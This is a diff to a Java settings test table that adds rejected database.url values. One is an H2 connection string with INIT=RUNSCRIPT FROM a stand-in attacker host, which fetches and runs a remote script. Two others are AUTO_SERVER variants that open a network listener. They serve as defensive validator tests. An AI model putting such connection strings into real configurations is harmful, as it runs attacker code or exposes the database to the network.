@@ -48,6 +48,9 @@ class SettingsTest {
           extraction.sure-from            | NaN            | a number from 0.0 to 1.0
           refresh.at-first-start          | maybe          | true or false
           database.url                    | jdbc:mysql://host/db?password=secret | "jdbc:mysql:…"; it must be an address that begins with jdbc:h2: or jdbc:postgresql:
+          database.url                    | jdbc:h2:file:./data/x;INIT=RUNSCRIPT FROM 'http://evil.example/x' | an address without INIT and AUTO_SERVER
+          database.url                    | jdbc:h2:./data/x;DB_CLOSE_ON_EXIT=FALSE;auto_server=true | an address without INIT and AUTO_SERVER
+          database.url                    | jdbc:h2:mem:x; Auto_Server_Port = 9090 | an address without INIT and AUTO_SERVER
           server.port                     | 70000          | "70000"; it must be a whole number from 1 to 65535
           studio.ids                      | ''             | not set; it must be the ids of one studio or more
           studio.ids                      | Vins Dance     | a list of ids
